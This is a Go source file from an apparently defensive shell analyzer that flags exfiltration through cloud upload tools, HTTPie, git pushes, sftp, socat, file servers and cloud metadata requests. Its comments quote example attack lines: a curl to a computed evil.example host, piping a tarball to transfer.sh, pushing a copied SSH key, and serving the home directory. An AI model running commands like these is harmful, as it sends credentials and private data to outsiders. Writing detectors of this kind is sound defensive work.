package shell

import (
	"net"
	"net/netip"
	"slices"
	"strings"
	"sync"

	"github.com/moatdev/moat/internal/call"
	"github.com/moatdev/moat/internal/netdest"
	"github.com/moatdev/moat/internal/shell/oneliner"
	"mvdan.cc/sh/v3/syntax"
)

// This file holds the forms in which data leaves the machine beyond curl's and wget's
// options (streams.go): HTTPie's request items, the cloud and SaaS tools that copy files
// out (aws s3 cp, gsutil, az storage, rclone, gh gist and release uploads), git pushing to
// a remote that the same line adds, sftp's batch commands, and the cloud metadata service,
// which hands out the machine's own cloud credentials to whoever asks.

// Finding ids of this file.
const (
	findUpload        = "exfiltration.upload"
	findCloudMetadata = "credentials.cloud-metadata"
)

// uploader says which files a command sends out: the operands after the subcommand that
// sources selects, when the destination (the last operand) is remote; or the values of
// options; or its standard input when a source is "-".
type uploader struct {
	sub     []string   // the subcommand, as in rule.sub
	sources operandSet // which operands after sub are local files; 0 for none
	// remote says whether the destination operand is remote; nil means the command sends
	// to its service whatever its operands.
	remote  func(string) bool
	options []string // options whose value is a local file sent
	// fields are options whose value KEY=@FILE sends the file's content (gh api -F).
	fields []string
	// publish means the destination is public or a stranger's (a gist, a file drop): any
	// file sent there is reported, not only secrets.
	publish bool
}

// uploaders maps a program to the ways it copies local files out.
var uploaders = sync.OnceValue(func() map[string][]uploader {
	s3 := prefixed("s3://")
	gs := prefixed("gs://")
	return map[string][]uploader{
		"aws": {
			{sub: []string{"s3", "cp|mv|sync"}, sources: beforeLast, remote: s3},
			{sub: []string{"s3api", "put-object|upload-part"}, options: []string{"body"}},
		},
		"s3cmd":  {{sub: []string{"put|sync|mv|cp"}, sources: beforeLast, remote: s3}},
		"gsutil": {{sub: []string{"cp|mv|rsync"}, sources: beforeLast, remote: gs}},
		"gcloud": {{sub: []string{"storage", "cp|mv|rsync"}, sources: beforeLast, remote: gs}},
		"azcopy": {{sub: []string{"copy|cp|sync"}, sources: beforeLast, remote: prefixed("https://", "http://")}},
		"rclone": {{sub: []string{"copy|copyto|sync|move|moveto|copyurl|bisync"}, sources: beforeLast, remote: rcloneRemote}},
		"restic": {{sub: []string{"backup"}, sources: allOperands}},
		"borg":   {{sub: []string{"create"}, sources: afterFirst}},
		"az": {
			{sub: []string{"storage", "blob|file|fs", "upload|upload-batch"}, options: []string{"file", "f", "source", "s"}},
			{sub: []string{"storage", "blob", "sync"}, options: []string{"source", "s"}},
		},
		"gh": {
			// gh's option table is one for every subcommand, where -p takes a value (api's
			// --preview); for gist create it is --public, so the word after it is a file.
			{sub: []string{"gist", "create|new"}, sources: allOperands, options: []string{"p"}, publish: true},
			{sub: []string{"gist", "edit"}, options: []string{"add", "a"}, publish: true},
			{sub: []string{"release", "upload|create"}, sources: afterFirst},
			{sub: []string{"issue|pr", "create|comment|edit"}, options: []string{"body-file", "F"}},
			{sub: []string{"api"}, options: []string{"input"}, fields: []string{"F", "field"}},
		},
		"glab": {{sub: []string{"snippet", "create"}, sources: allOperands, publish: true}},
		// git send-email mails the files among its operands (patches, or anything) to
		// whoever --to names; revisions among them name no file.
		"git":        {{sub: []string{"send-email"}, sources: allOperands}},
		"croc":       {{sub: []string{"send"}, sources: allOperands, publish: true}},
		"wormhole":   {{sub: []string{"send"}, sources: allOperands, publish: true}},
		"ffsend":     {{sub: []string{"upload|u|up"}, sources: allOperands, publish: true}},
		"pastebinit": {{sources: allOperands, publish: true}},
	}
})

// exfilOptions are the options of this file's programs that take a value.
var exfilOptions = sync.OnceValue(func() map[string]valueOpts {
	httpie := valueOpts{short: "aAoCFpPv", long: []string{"auth", "auth-type", "output", "session", "session-read-only", "verify",
		"cert", "cert-key", "proxy", "timeout", "max-redirects", "print", "pretty", "style", "format-options", "raw", "boundary"}}
	return map[string]valueOpts{
		"http": httpie, "https": httpie, "xh": httpie, "xhs": httpie,
		"s3cmd":      {short: "c", long: []string{"config", "access_key", "secret_key", "region", "exclude", "include", "mime-type"}, subcommand: true},
		"gsutil":     {short: "hopu", subcommand: true},
		"azcopy":     {long: []string{"include-pattern", "exclude-pattern", "log-level", "from-to", "blob-type"}, subcommand: true},
		"croc":       {long: []string{"code", "relay", "pass"}, subcommand: true},
		"wormhole":   {long: []string{"code", "relay-url", "transit-helper"}, subcommand: true},
		"ffsend":     {short: "dpHn", long: []string{"downloads", "password", "host", "name", "expiry-time"}, subcommand: true},
		"pastebinit": {short: "abfijmtu"},
	}
})

// prefixed returns a test for destinations starting with one of the prefixes.
func prefixed(prefixes ...string) func(string) bool {
	return func(s string) bool {
		for _, p := range prefixes {
			if strings.HasPrefix(strings.ToLower(s), p) {
				return true
			}
		}
		return false
	}
}

// rcloneRemote: rclone names a remote REMOTE:PATH; a local path has no colon before its
// first slash.
func rcloneRemote(s string) bool {
	i := strings.IndexByte(s, ':')
	return i > 0 && !strings.ContainsRune(s[:i], '/')
}

// uploads applies the uploader table to a command.
func (a *analyzer) uploads(cmd *call.Command, m *cmdMeta, v *view, cwd dir) {
	for _, u := range uploaders()[v.name] {
		if dryRun(v) {
			break // aws ec2 --dry-run still sends its parameters, read below
		}
		r := rule{sub: u.sub}
		if _, ok := holds(&r, v); !ok {
			continue
		}
		var files []arg
		dest := ""
		ops := v.raw[len(u.sub):]
		if u.sources != 0 {
			lo, hi := u.sources.span(len(ops))
			if u.remote != nil {
				if len(ops) < 2 || ops[len(ops)-1].dynamic || !u.remote(ops[len(ops)-1].lit) {
					continue // a download, or a copy between remotes
				}
				dest = ops[len(ops)-1].lit
			}
			files = append(files, ops[lo:hi]...)
		}
		files = append(files, optionValues(v, u.options...)...)
		for _, f := range optionValues(v, u.fields...) {
			if _, file, ok := strings.Cut(f.lit, "=@"); ok && !f.dynamic {
				files = append(files, arg{lit: file})
			}
		}
		a.sendFiles(cmd, m, files, hostOfDest(dest), u.publish, cwd)
	}
	if v.name == "aws" && !fillsSecretStore(v) {
		// aws … --cli-input-json file://x, --body fileb://x, --secret-string file://x: any
		// parameter can be read from a file, which is then sent to AWS.
		var files []arg
		for _, x := range v.args {
			if x.dynamic {
				continue
			}
			val := x.lit
			if strings.HasPrefix(val, "--") {
				_, val, _ = strings.Cut(val, "=")
			}
			if f, ok := awsFileParam(val); ok {
				files = append(files, arg{lit: f})
			}
		}
		a.sendFiles(cmd, m, files, "", false, cwd)
	}
}

// optionValues returns the values of the options named, whether or not the program's
// valueOptions says they take one: a cloud CLI has too many options to list them all, and
// the value of one it does not list was parsed as an operand.
func optionValues(v *view, names ...string) []arg {
	vals := v.values(names...)
	listed := valueOptions()[v.name]
	for i, x := range v.args {
		if x.dynamic || i+1 >= len(v.args) {
			continue
		}
		var name string
		switch {
		case strings.HasPrefix(x.lit, "--") && !strings.Contains(x.lit, "="):
			name = x.lit[2:]
			if containsString(listed.long, name) {
				continue // parsed with its value already
			}
		case len(x.lit) == 2 && x.lit[0] == '-' && x.lit[1] != '-':
			name = x.lit[1:]
			if strings.IndexByte(listed.short, name[0]) >= 0 {
				continue
			}
		default:
			continue
		}
		if containsString(names, name) {
			vals = append(vals, v.args[i+1])
		}
	}
	return vals
}

// awsFileParam returns the file of an aws parameter written file://PATH or fileb://PATH.
func awsFileParam(s string) (string, bool) {
	for _, p := range []string{"fileb://", "file://"} {
		if rest, ok := strings.CutPrefix(s, p); ok && rest != "" {
			return rest, true
		}
	}
	return "", false
}

// hostOfDest is the host of a cloud destination (s3://bucket/key gives bucket), for the
// finding's evidence.
func hostOfDest(dest string) string {
	if i := strings.Index(dest, "://"); i > 0 {
		rest := dest[i+3:]
		h, _, _ := strings.Cut(rest, "/")
		return h
	}
	if i := strings.IndexByte(dest, ':'); i > 0 {
		return dest[:i] // rclone's remote
	}
	return ""
}

// sendFiles records files sent to host: read accesses, the outbound connection and what
// dataflow judges them by. A source of - sends standard input.
func (a *analyzer) sendFiles(cmd *call.Command, m *cmdMeta, files []arg, host string, publish bool, cwd dir) {
	if len(files) == 0 {
		return
	}
	var sent []string
	for _, f := range files {
		switch {
		case f.dynamic:
			cmd.Opaque = true
			m.sendsArgs = true
			m.opaqueUpload = m.opaqueUpload || commandSubst(f.lit)
		case f.lit == "-" || f.lit == "/dev/stdin":
			m.netSink = true
		default:
			file := expandTildeLike(f.lit, a)
			if p, ok, opaque := a.resolve(file, cwd); ok {
				sent = append(sent, p)
				cmd.Accesses = append(cmd.Accesses, call.Access{Kind: call.Read, Path: p, Recursive: true, Glob: f.glob})
				cmd.Opaque = cmd.Opaque || opaque
			}
		}
	}
	cmd.Net = append(cmd.Net, call.Net{Host: host, Direction: call.Outbound, Uploads: sent})
	m.uploads = append(m.uploads, sent...)
	m.uploadTrees, m.netArgs, m.toService = true, true, true
	if publish && len(sent) > 0 {
		m.publishes = true
	}
}

// httpie reads HTTPie's (and xh's) request: [METHOD] URL ITEM…, where an item is a header
// (Name:value), data (field=value, field:=json), a query parameter (name==value), a file
// (field@path, field=@path, field:=@path, Header:@path) or, alone, @path as the body.
func (a *analyzer) httpie(cmd *call.Command, m *cmdMeta, v *view, cwd dir) {
	ops := v.raw
	if len(ops) > 0 && !ops[0].dynamic && httpMethod(ops[0].lit) {
		ops = ops[1:]
	}
	direction := call.Inbound
	if len(ops) > 0 {
		u := ops[0]
		if u.dynamic {
			cmd.Net = append(cmd.Net, call.Net{Direction: call.Outbound})
		} else if h := httpieHost(u.lit); h != "" {
			cmd.Net = append(cmd.Net, call.Net{Host: h, Direction: call.Outbound})
		}
		ops = ops[1:]
	}
	var files []arg
	for _, it := range ops {
		kind, _, val := httpieItem(it.lit)
		switch kind {
		case itemHeader:
			if it.word != nil {
				m.authWords = append(m.authWords, it.word)
			}
		case itemData, itemQuery:
			direction = call.Outbound
			m.sendsArgs = true
		case itemFile:
			direction = call.Outbound
			if it.dynamic {
				m.sendsArgs = true
				m.opaqueUpload = commandSubst(it.lit)
				continue
			}
			files = append(files, arg{lit: val})
		case itemNone:
			if it.dynamic {
				m.sendsArgs = true // a word known only at run time may be any item
			}
		}
	}
	for _, o := range v.opts {
		if (o.name == "a" || o.name == "auth") && o.hasValue && o.val.word != nil {
			m.authWords = append(m.authWords, o.val.word)
		}
		if o.name == "raw" {
			direction = call.Outbound
			m.sendsArgs = true
		}
	}
	for i := range cmd.Net {
		cmd.Net[i].Direction = direction
	}
	if len(files) > 0 {
		host := ""
		if len(cmd.Net) > 0 {
			host = cmd.Net[0].Host
		}
		a.sendFiles(cmd, m, files, host, false, cwd)
		cmd.Net = cmd.Net[:len(cmd.Net)-1] // the request's own connection carries them
		if len(cmd.Net) > 0 {
			cmd.Net[len(cmd.Net)-1].Uploads = append(cmd.Net[len(cmd.Net)-1].Uploads, m.uploads...)
		}
	}
	m.netArgs = true
	// HTTPie sends what it reads on standard input as the request's body.
	m.netSink = !v.flag("I", "ignore-stdin")
	if !v.flag("d", "download") && len(v.values("o", "output")) == 0 {
		m.out.t |= tDownload
	}
}

func httpMethod(s string) bool {
	switch s {
	case "GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "CONNECT":
		return true
	}
	return false
}

// httpieHost is the host of HTTPie's URL argument, which may leave out the scheme
// (example.org/x) or the host (:3000/x is localhost).
func httpieHost(u string) string {
	if strings.HasPrefix(u, ":") {
		return "localhost"
	}
	if !strings.Contains(u, "://") {
		u = "http://" + u
	}
	return hostOf(u)
}

type itemKind uint8

const (
	itemNone itemKind = iota
	itemHeader
	itemData
	itemQuery
	itemFile
)

// httpieSeps are HTTPie's item separators, longest first at any one position.
var httpieSeps = []struct {
	sep  string
	kind itemKind
}{
	{":=@", itemFile}, {"==", itemQuery}, {":=", itemData}, {"=@", itemFile}, {":@", itemFile},
	{"=", itemData}, {":", itemHeader}, {"@", itemFile},
}

// httpieItem splits an item at its first separator (backslash-escaped ones are part of
// the key).
func httpieItem(s string) (itemKind, string, string) {
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' {
			i++
			continue
		}
		for _, sp := range httpieSeps {
			if strings.HasPrefix(s[i:], sp.sep) {
				if sp.kind == itemHeader && (strings.HasPrefix(s[i:], "://") || i == 0) {
					return itemNone, "", ""
				}
				return sp.kind, s[:i], s[i+len(sp.sep):]
			}
		}
	}
	return itemNone, "", ""
}

// gitNetwork records the connections of git's network commands and the remotes a line
// adds, so that pushing to one is reported: the data goes to a destination the same line
// chose.
func (a *analyzer) gitNetwork(cmd *call.Command, m *cmdMeta, v *view) {
	i := subcommandAt("git", v.args)
	if i >= len(v.args) || v.args[i].dynamic {
		return
	}
	sub := v.args[i].lit
	var ops []arg
	for _, x := range v.args[i+1:] {
		if x.dynamic || !strings.HasPrefix(x.lit, "-") {
			ops = append(ops, x)
		}
	}
	urls := func(d call.Direction) {
		for _, o := range ops {
			if o.dynamic && !strings.Contains(o.lit, "://") && !strings.Contains(o.lit, "@") {
				continue
			}
			if h := gitHost(o.lit); h != "" {
				cmd.Net = append(cmd.Net, call.Net{Host: h, Direction: d})
				if o.word != nil {
					// A token in a URL's user part is sent to that host to log in.
					m.authWords = append(m.authWords, o.word)
				}
				m.netArgs = true
			}
		}
	}
	switch sub {
	case "clone", "fetch", "pull", "ls-remote", "archive":
		urls(call.Inbound)
	case "push":
		urls(call.Outbound)
		m.pushes = true
		if len(ops) == 0 && a.remotes["origin"] {
			m.pushesOut = "git push (to origin)" // the default remote, pointed elsewhere
		}
		for _, o := range ops {
			if o.dynamic {
				continue
			}
			if a.remotes[o.lit] || gitHost(o.lit) != "" {
				m.pushesOut = "git push " + o.lit
			}
			break // the first operand is the repository
		}
		for _, val := range v.values("repo") {
			m.pushesOut = "git push --repo " + val.lit
		}
	case "remote":
		if len(ops) >= 3 && (ops[0].lit == "add" || ops[0].lit == "set-url") && !ops[1].dynamic {
			a.addRemote(ops[1].lit)
			urls(call.Outbound)
		}
	case "submodule":
		urls(call.Inbound)
	case "config":
		// git config remote.NAME.url URL, git config remote.NAME.pushurl URL.
		if len(ops) >= 2 && !ops[0].dynamic {
			key := strings.ToLower(ops[0].lit)
			if name, ok := strings.CutPrefix(key, "remote."); ok && (strings.HasSuffix(name, ".url") || strings.HasSuffix(name, ".pushurl")) {
				a.addRemote(name[:strings.LastIndexByte(name, '.')])
			}
		}
	}
}

func (a *analyzer) addRemote(name string) {
	if a.remotes == nil {
		a.remotes = make(map[string]bool)
	}
	a.remotes[name] = true
}

// gitHost returns the host of a git URL: scheme://[user@]host/…, or user@host:path.
func gitHost(s string) string {
	if strings.Contains(s, "://") {
		if strings.HasPrefix(s, "file://") {
			return ""
		}
		rest := s[strings.Index(s, "://")+3:]
		auth, _, _ := strings.Cut(rest, "/")
		if at := strings.LastIndexByte(auth, '@'); at >= 0 {
			auth = auth[at+1:]
		}
		h, _, _ := strings.Cut(auth, ":")
		return h
	}
	if at := strings.IndexByte(s, '@'); at > 0 {
		if colon := strings.IndexByte(s[at:], ':'); colon > 0 && !strings.Contains(s[:at], "/") {
			return s[at+1 : at+colon]
		}
	}
	return ""
}

// sftpBatch reads sftp's batch commands from its standard input: put and mput send local
// files.
func sftpBatch(text string) []string {
	var files []string
	for _, line := range strings.Split(text, "\n") {
		f := strings.Fields(strings.TrimLeft(strings.TrimSpace(line), "-@"))
		if len(f) < 2 {
			continue
		}
		switch strings.ToLower(f[0]) {
		case "put", "mput", "reput", "append":
			for _, w := range f[1:] {
				if !strings.HasPrefix(w, "-") {
					files = append(files, w)
					break
				}
			}
		}
	}
	return files
}

// metadataHost reports whether host names a cloud metadata service, in any spelling
// netdest knows (every IPv4 form inet_aton reads, IPv6 embeddings, names that embed the
// address). A plain name that is none of the services' names is rejected before the
// parsing, which is most hosts of most commands.
func metadataHost(host string) bool {
	if !mayBeMetadata(host) {
		return false
	}
	_, ok := netdest.MetadataService(host)
	return ok
}

// mayBeMetadata reports whether host could name a metadata service: it holds a digit, a
// colon, an escape or a non-ASCII character (an address in some spelling, or a name that
// embeds one), or it is one of the services' names.
func mayBeMetadata(host string) bool {
	for i := 0; i < len(host); i++ {
		c := host[i]
		if c >= '0' && c <= '9' || c == ':' || c == '%' || c >= 0x80 {
			return true
		}
	}
	h := strings.ToLower(host)
	return strings.Contains(h, "metadata") || strings.Contains(h, "instance-data")
}

// wordsAreText reports whether a program's words are text it prints or searches for
// (echo, printf, grep, rg), not addresses it connects to or programs it runs.
func wordsAreText(name string) bool {
	return printers[name] || name == "grep" || name == "rg"
}

// metadataAccess reports the command's connections to a metadata service, and URLs of one
// in its words (interpreters, ssh -L, anything that takes a URL).
func (a *analyzer) metadataAccess(cmd *call.Command, m *cmdMeta, v *view) {
	if wordsAreText(v.name) {
		return // data, not a request
	}
	// git's words are messages, names and paths; the remotes it contacts are in cmd.Net,
	// read above.
	wordsAreData := v.name == "git"
	evidence := ""
	for _, n := range cmd.Net {
		if metadataHost(n.Host) {
			evidence = n.Host
			break
		}
	}
	if evidence == "" && !wordsAreData {
		for _, x := range v.args {
			// A word known only at run time is read in its source text: the host written
			// before a variable is still the host (http://169.254.170.2$URI).
			if h := metadataURLIn(x.lit); h != "" {
				evidence = h
				break
			}
		}
	}
	if evidence != "" {
		cmd.Findings = appendFinding(cmd.Findings, findCloudMetadata, evidence)
		m.out.t |= tSecret
	}
}

// metadataURLIn finds a URL of a metadata service in a word (code, an option value).
func metadataURLIn(s string) string {
	for rest := s; ; {
		i := strings.Index(rest, "://")
		if i < 0 {
			break
		}
		rest = rest[i+3:]
		end := strings.IndexAny(rest, "/?#'\" \t\n)`;,$")
		auth := rest
		if end >= 0 {
			auth = rest[:end]
		}
		if at := strings.LastIndexByte(auth, '@'); at >= 0 {
			auth = auth[at+1:]
		}
		host := auth
		if strings.HasPrefix(host, "[") {
			if j := strings.IndexByte(host, ']'); j > 0 {
				host = host[:j+1]
			}
		} else if j := strings.LastIndexByte(host, ':'); j >= 0 && strings.Count(host, ":") == 1 {
			host = host[:j]
		}
		if metadataHost(host) {
			return host
		}
	}
	return ""
}

// hostComputed reports whether a word's host part (after scheme://) is computed by a
// command substitution: curl "http://$(whoami).evil.example" sends data in a DNS name.
func hostComputed(x arg) bool {
	if !x.dynamic {
		return false
	}
	i := strings.Index(x.lit, "://")
	if i < 0 {
		return false // data, not a URL (a bare computed host is the DNS tools' case)
	}
	host, _, _ := strings.Cut(x.lit[i+3:], "/")
	return strings.Contains(host, "$(") || strings.Contains(host, "`")
}

// secretParams reports the secret environment variables a here-document or here-string
// expands, which make what it feeds a command secret.
func (a *analyzer) secretParams(w *syntax.Word) bool {
	found := false
	syntax.Walk(w, func(n syntax.Node) bool {
		if p, ok := n.(*syntax.ParamExp); ok && readsSecretValue(p) {
			if v, _ := a.st.get(p.Param.Value); !v.known {
				found = true
			}
		}
		return !found
	})
	return found
}

// uploadSinks reports, for the command at i, what it sends to a destination the line
// chose (a remote added in it, a gist, a file drop) and data carried out in a host name
// computed at run time; in is what it reads on its standard input.
func (a *analyzer) uploadSinks(i int, in flowVal) {
	m := &a.meta[i]
	c := &a.cmds[i]
	if m.sftpStdin && in.known {
		cwd := a.cwdAt(i)
		for _, f := range sftpBatch(in.text) {
			p, ok, _ := a.resolve(expandTildeLike(f, a), cwd)
			if !ok {
				continue
			}
			acc := call.Access{Kind: call.Read, Path: p, Recursive: true}
			c.Accesses = append(c.Accesses, acc)
			m.uploads = append(m.uploads, p)
			if a.sh.env.Sensitive != nil && a.sh.env.Sensitive(acc) || a.tainted[p]&(tSecret|tEnvDump) != 0 || a.sh.secretFiles[p] {
				*c = withFinding(*c, findExfiltration, "sftp puts "+p+" on "+netHosts(c))
			}
		}
	}
	if m.pushes && !hasFinding(c.Findings, findExfiltration) {
		// cp ~/.ssh/id_rsa . && git add . && git commit … && git push: a secret copied into
		// the repository earlier in the line leaves with the push.
		for p, t := range a.tainted {
			if t&(tSecret|tEnvDump) != 0 {
				*c = withFinding(*c, findExfiltration, "pushes the repository after "+p+" was written with secret data")
				break
			}
		}
	}
	if !hasFinding(c.Findings, findExfiltration) {
		switch {
		case m.opaqueUpload:
			*c = withFinding(*c, findUpload, "uploads a file named only at run time to "+netHosts(c))
		case m.pushesOut != "":
			*c = withFinding(*c, findUpload, m.pushesOut+": a remote the same line chose")
		case m.publishes:
			*c = withFinding(*c, findUpload, "publishes "+strings.Join(m.uploads, " "))
		case len(m.uploads) > 0 && sendsToCapture(c):
			*c = withFinding(*c, findUpload, "uploads "+strings.Join(m.uploads, " ")+" to "+netHosts(c))
		case m.netSink && sendsToCapture(c):
			// tar czf - . | curl -T - https://transfer.sh/x: whatever the line pipes in
			// goes to a drop anyone with the link can read.
			*c = withFinding(*c, findUpload, "uploads what it reads on its input to "+netHosts(c))
		}
	}
	if !m.netArgs {
		return
	}
	for k, p := range m.params {
		switch {
		case hostComputed(p):
			*c = withFinding(*c, findDNSExfil, "connects to a host name computed at run time: "+shorten(p.lit))
		case (m.prog == "ping" || m.prog == "ping6") && !p.dynamic && p.lit == "-p" && k+1 < len(m.params) && m.params[k+1].dynamic,
			(m.prog == "ping" || m.prog == "ping6") && p.dynamic && strings.HasPrefix(p.lit, "-p"):
			// ping -p PATTERN fills each packet with the pattern: computed, it carries data.
			*c = withFinding(*c, findDNSExfil, "ping -p with a pattern computed at run time")
		}
	}
}

// secretEnvSent judges interpreter code that reads secret environment variables and uses
// the network, as the shell's own commands are judged: a variable named for a service
// (GITHUB_TOKEN) with a URL of another host written in the code, or any secret variable
// with a request catcher's, is sent to a stranger. A URL computed in the code is left to
// the opaque code's own findings.
func secretEnvSent(res oneliner.Result) string {
	if !res.Network {
		return ""
	}
	for _, name := range res.EnvVars {
		if !secretName().MatchString(name) || notSecretName(name) {
			continue
		}
		service := varService(name)
		for _, h := range res.URLHosts {
			if netdest.Capture(h) || service != "" && !hostServes(h, service) {
				return "the code sends $" + name + " to " + h
			}
		}
	}
	return ""
}

// socatFiles: socat ADDRESS ADDRESS reads a file named by a FILE:, OPEN: or GOPEN:
// address and sends it to the other address, a network one.
func (a *analyzer) socatFiles(cmd *call.Command, m *cmdMeta, v *view, cwd dir) {
	var files []arg
	network := false
	for _, o := range v.raw {
		if o.dynamic {
			continue
		}
		kind, rest, ok := strings.Cut(o.lit, ":")
		if !ok {
			continue
		}
		kind = strings.ToLower(kind)
		switch {
		case kind == "file" || kind == "open" || kind == "gopen":
			p, _, _ := strings.Cut(rest, ",")
			files = append(files, arg{lit: p})
		case strings.HasPrefix(kind, "tcp") || strings.HasPrefix(kind, "udp") || strings.HasPrefix(kind, "openssl") || strings.HasPrefix(kind, "sctp") || kind == "ssl":
			network = true
		}
	}
	if network && len(files) > 0 {
		a.sendFiles(cmd, m, files, "", false, cwd)
	}
}

// noteVarSubsts records the command substitutions an assignment's value holds, so that
// the variable is followed as carrying their output; an assignment without one forgets
// them, and += keeps them.
func (a *analyzer) noteVarSubsts(name string, value *syntax.Word, appending bool) {
	substs := cmdSubsts(value)
	if len(substs) == 0 && len(a.varSubsts[name]) == 0 {
		return
	}
	if a.varSubsts == nil {
		a.varSubsts = make(map[string][]syntax.Node)
	}
	if appending {
		substs = append(slices.Clip(a.varSubsts[name]), substs...)
	}
	if len(substs) == 0 {
		delete(a.varSubsts, name)
		return
	}
	a.varSubsts[name] = substs
}

// opensslFiles: openssl's commands take their input files as one-dash options (-in, -inkey,
// -key, -kfile), which the generic parser splits into letters.
func (a *analyzer) opensslFiles(cmd *call.Command, v *view, cwd dir) {
	for i, x := range v.args {
		if x.dynamic || i+1 >= len(v.args) {
			continue
		}
		switch x.lit {
		case "-in", "-inkey", "-key", "-kfile", "-CAkey", "-signkey":
			cmd.Opaque = a.addAccess(&cmd.Accesses, call.Read, v.args[i+1], false, cwd) || cmd.Opaque
		case "-out":
			cmd.Opaque = a.addAccess(&cmd.Accesses, call.Write, v.args[i+1], false, cwd) || cmd.Opaque
		}
	}
}

// fileServers serve a directory over HTTP: the option that names it, or the operand, and
// the cwd when neither is given.
var fileServers = sync.OnceValue(func() map[string][]rule {
	serve := []rule{{when: servesSecrets, finding: findExfiltration}, {when: servesHeldSecrets, finding: findUpload}}
	return map[string][]rule{
		"python": serve, "php": serve, "http-server": serve, "serve": serve, "darkhttpd": serve,
		"caddy": serve, "httpd": serve, "ruby": serve, "webfsd": serve,
	}
})

// servesSecrets: a file server whose directory holds credentials (the home directory,
// ~/.ssh) hands them to whoever connects: python -m http.server -d ~, php -S 0:80 -t ~.
func servesSecrets(a *analyzer, v *view) string {
	p, ok := servedDir(a, v)
	if !ok || a.sh.env.Sensitive == nil || !a.sh.env.Sensitive(call.Access{Kind: call.Read, Path: p, Recursive: true}) {
		return ""
	}
	return v.name + " serves " + p + ", which holds credentials, to the network"
}

// servesHeldSecrets: a file server, listening beyond this machine, whose directory holds a
// file with credentials as the disk shows it (a project's .env, trees.go), hands it to
// whoever asks. A server of the home directory is servesSecrets'.
func servesHeldSecrets(a *analyzer, v *view) string {
	p, ok := servedDir(a, v)
	if !ok || servesLoopback(v) || a.sh.env.Sensitive != nil && a.sh.env.Sensitive(call.Access{Kind: call.Read, Path: p, Recursive: true}) {
		return "" // the home directory's server is servesSecrets'
	}
	if f := a.secretsWithin(p); f != "" {
		return v.name + " serves " + p + ", which holds " + strings.TrimPrefix(f, strings.TrimSuffix(p, "/")+"/") + ", to the network"
	}
	return ""
}

// servesLoopback reports a file server told to listen on this machine's loopback only
// (python -m http.server --bind 127.0.0.1, php -S localhost:8000, http-server -a ::1).
func servesLoopback(v *view) bool {
	for _, x := range optionValues(v, "bind", "b", "S", "a", "addr", "listen", "l") {
		h := strings.TrimPrefix(x.lit, "tcp://")
		if host, _, err := net.SplitHostPort(h); err == nil {
			h = host
		}
		h = strings.Trim(h, "[]")
		// 0.0.0.0 and :: connect to this machine, but a server bound to them listens on
		// every interface.
		if ip, err := netip.ParseAddr(h); !x.dynamic && netdest.Loopback(h) && (err != nil || !ip.IsUnspecified()) {
			return true
		}
	}
	return false
}

// servedDir is the absolute directory a file server serves: the option that names it, or
// the operand, and the working directory when neither is given. false when the command
// serves nothing, or a directory moat cannot place.
func servedDir(a *analyzer, v *view) (string, bool) {
	dir, serving := "", false
	switch v.name {
	case "python":
		for _, m := range v.values("m") {
			if m.lit == "http.server" || m.lit == "SimpleHTTPServer" {
				serving = true
			}
		}
		for _, d := range optionValues(v, "directory", "d") {
			dir = d.lit
		}
	case "php":
		serving = v.hasArg("-S")
		for i, x := range v.args {
			if x.lit == "-t" && i+1 < len(v.args) {
				dir = v.args[i+1].lit
			}
		}
	case "ruby":
		for _, x := range v.args {
			serving = serving || strings.Contains(x.lit, "httpd") && (strings.HasPrefix(x.lit, "-run") || strings.HasPrefix(x.lit, "-e"))
		}
		if serving && len(v.raw) > 0 {
			dir = v.raw[len(v.raw)-1].lit
		}
	case "caddy":
		serving = len(v.ops) > 0 && v.ops[0] == "file-server"
		for _, d := range optionValues(v, "root", "r") {
			dir = d.lit
		}
	case "httpd":
		serving = v.hasArg("-f") || true
		for _, d := range optionValues(v, "h") {
			dir = d.lit
		}
	case "webfsd":
		serving = true
		for _, d := range optionValues(v, "r") {
			dir = d.lit
		}
	default: // http-server, serve, darkhttpd: DIR as the operand
		serving = true
		for _, o := range v.raw {
			if !o.dynamic && !isPort(o.lit) {
				dir = o.lit
				break
			}
		}
	}
	if !serving {
		return "", false
	}
	if dir == "" {
		dir = "."
	}
	p, ok, _ := a.resolve(expandTildeLike(dir, a), a.cwd())
	return p, ok
}

// computesName reports whether some word is a host name computed at run time: a
// substitution or variable with letters written around it ($(whoami).evil.example), or
// alone. An address whose last part is computed (192.168.1.$i, a ping sweep) is no name
// to resolve, and carries no data in a query.
func computesName(words []arg) bool {
	for _, w := range words {
		if !w.dynamic || strings.HasPrefix(w.lit, "-") {
			continue
		}
		lit := literalText(w.lit)
		if lit == "" || strings.IndexFunc(lit, func(r rune) bool { return r != '.' && (r < '0' || r > '9') }) >= 0 {
			return true
		}
	}
	return false
}

// literalText removes from a word's source text its expansions ($x, ${x}, $(…), `…`)
// and quotes, leaving what is written out.
func literalText(src string) string {
	var b strings.Builder
	depth := 0
	for i := 0; i < len(src); i++ {
		c := src[i]
		switch {
		case depth > 0:
			switch c {
			case '(', '{':
				depth++
			case ')', '}':
				depth--
			}
		case c == '$' && i+1 < len(src) && (src[i+1] == '(' || src[i+1] == '{'):
			depth = 1
			i++
		case c == '$':
			for i+1 < len(src) && (src[i+1] == '_' || src[i+1] >= 'a' && src[i+1] <= 'z' || src[i+1] >= 'A' && src[i+1] <= 'Z' || src[i+1] >= '0' && src[i+1] <= '9') {
				i++
			}
		case c == '`':
			if j := strings.IndexByte(src[i+1:], '`'); j >= 0 {
				i += j + 1
			}
		case c == '"' || c == '\'':
		default:
			b.WriteByte(c)
		}
	}
	return b.String()
}

// commandSubst reports whether a word's source text runs a command substitution: the file
// it names is picked by a command at run time. A variable ($ARTIFACT, a loop's $f) is
// left to what the line assigns it.
func commandSubst(src string) bool {
	return strings.Contains(src, "$(") || strings.Contains(src, "`")
}
